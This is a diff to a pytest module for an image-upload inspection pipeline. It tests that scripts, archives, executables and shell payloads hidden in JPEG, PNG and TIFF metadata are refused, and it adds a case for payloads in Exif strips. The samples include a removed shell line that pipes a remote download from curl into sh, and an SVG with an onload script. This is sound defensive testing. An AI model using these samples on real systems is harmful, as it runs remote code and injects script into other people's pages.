@@ -5,7 +5,6 @@ microscopes write. None of them is kept here.
 """
 
 import gzip
-import io
 import zlib
 from collections.abc import Callable
 from typing import Any
@@ -13,25 +12,25 @@ from typing import Any
 import pytest
 from imagecodecs import jpeg8_encode, lzw_encode, zstd_encode
 
-from nachet_pipeline.contract.catalogue import CATALOGUE, Severity
 from nachet_pipeline.pictures.forensics.inflating import ends_as_lzw
 from nachet_pipeline.pictures.forensics.jpeg import frame_of
 from nachet_pipeline.pictures.forensics.signatures import harmful, harmful_in_pixels
-from nachet_pipeline.pictures.inspection import inspect_picture
 from nachet_pipeline_tests.pictures import cameras
 from nachet_pipeline_tests.pictures.cameras import APP1, APP2, XMP, jpeg
 from nachet_pipeline_tests.pictures.files import (
     ELF,
     HTML,
-    LIMITS,
     PHP,
+    SHELL,
     Entry,
     codes,
     directory,
     grey_tiff,
     inspect,
+    is_refused,
     long,
     noise,
+    only,
     png_chunks,
     png_of,
     saved,
@@ -44,7 +43,6 @@ from nachet_pipeline_tests.pictures.files import (
 )
 
 PNG = saved(seed_image("RGB", (64, 48)), "PNG")
-SHELL = b"#!/bin/sh\ncurl -s http://example.org/run | sh\n"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'
 PAYLOADS = {
     "zip": zip_archive(),
@@ -115,7 +113,7 @@ def test_a_lossless_jpeg_is_taken_and_ends_no_worker() -> None:
 def test_the_photograph_behind_a_portrait_of_googles_camera_is_told_to_be_a_second_one() -> None:
     xmp = XMP + b'<x:xmpmeta xmlns:Container="http://ns.google.com/photos/1.0/container/"><Container:Directory/>'
 
-    (issue,) = inspect("JPEG", with_segments(jpeg(), (APP1, xmp)) + jpeg()).issues
+    issue = only("JPEG", with_segments(jpeg(), (APP1, xmp)) + jpeg())
 
     assert issue.code == "several-pages"
     assert issue.advice is not None
@@ -152,7 +150,7 @@ def test_a_palette_after_the_pixels_is_none() -> None:
 
 
 def _only(content: bytes) -> tuple[str, str | None]:
-    (issue,) = inspect("TIFF", content).issues
+    issue = only("TIFF", content)
     return issue.code, issue.found.en if issue.found else None
 
 
@@ -204,6 +202,14 @@ def _in_png(payload: bytes) -> dict[str, bytes]:
     }
 
 
+def _strips_in_exif(payload: bytes) -> bytes:
+    """Strips where no picture is, in a directory that says to be one in old JPEG."""
+    place = len(grey_tiff([(34665, *long(0))]))
+    entries = _picture(1, place, len(payload), (259, *short(6)), (513, *long(8)), (514, *long(4)))
+    behind = payload + directory(entries.values(), place + len(payload))
+    return grey_tiff([(34665, *long(place + len(payload)))], behind=behind)
+
+
 def _in_tiff(payload: bytes) -> dict[str, bytes]:
     def tag(code: int, kind: int = 7) -> bytes:
         return grey_tiff([(code, kind, len(payload), payload)])
@@ -214,6 +220,7 @@ def _in_tiff(payload: bytes) -> dict[str, bytes]:
     small = saved(seed_image("L", (64, 48)), "JPEG")
     return {
         "places of unused bytes": tag(288),
+        "strips of old JPEG in the directory of Exif": _strips_in_exif(payload),
         "sizes of unused bytes": grey_tiff([(289, 4, len(numbers) // 4, numbers)]),
         "places of directories": tag(330),
         "the place of Exif": tag(34665, 2),
@@ -232,7 +239,7 @@ def _in_tiff(payload: bytes) -> dict[str, bytes]:
 @pytest.mark.parametrize("payload", PAYLOADS)
 @pytest.mark.parametrize(("picture_format", "places"), [("JPEG", _in_jpeg), ("PNG", _in_png), ("TIFF", _in_tiff)])
 def test_no_place_hides_something_harmful(picture_format: str, places: Callable[[bytes], Any], payload: str) -> None:
-    taken = [place for place, content in places(PAYLOADS[payload]).items() if not _is_refused(picture_format, content)]
+    taken = [place for place, content in places(PAYLOADS[payload]).items() if not is_refused(picture_format, content)]
 
     assert taken == []
 
@@ -243,18 +250,13 @@ def test_the_same_places_hold_numbers_of_any_kind(picture_format: str, places: C
     harmless = places(noise((60,)).tobytes())
     odd = {"sizes of tiles"}  # fewer of them than tiles
 
-    refused = [place for place, content in harmless.items() if _is_refused(picture_format, content)]
+    refused = [place for place, content in harmless.items() if is_refused(picture_format, content)]
 
     assert set(refused) <= odd
 
 
 def test_a_script_in_an_unused_table_of_a_jpeg_is_found() -> None:
-    assert _is_refused("JPEG", with_segments(jpeg(), (0xDB, b"\x03" + SHELL.ljust(64, b"\x01")[:64])))
-
-
-def _is_refused(picture_format: str, content: bytes) -> bool:
-    found = inspect_picture(content, picture_format, LIMITS).issues
-    return any(CATALOGUE[issue.code].severity is Severity.ERROR for issue in found)
+    assert is_refused("JPEG", with_segments(jpeg(), (0xDB, b"\x03" + SHELL.ljust(64, b"\x01")[:64])))
 
 
 @pytest.mark.parametrize("payload", [*PAYLOADS.values(), b"\xff" * 3_000 + SHELL, b"a seed " * 900 + SHELL])
@@ -283,6 +285,5 @@ def test_a_file_of_words_all_over_is_searched_as_a_whole() -> None:
 
 def test_the_header_of_gzip_alone_is_no_archive() -> None:
     header = b"\x1f\x8b\x08\0\0\0\0\0\0\x03"
-    data = io.BytesIO(header + b"\xff" * 200).getvalue()
 
-    assert harmful(b"noise" + data, text=False) is None
+    assert harmful(b"noise" + header + b"\xff" * 200, text=False) is None
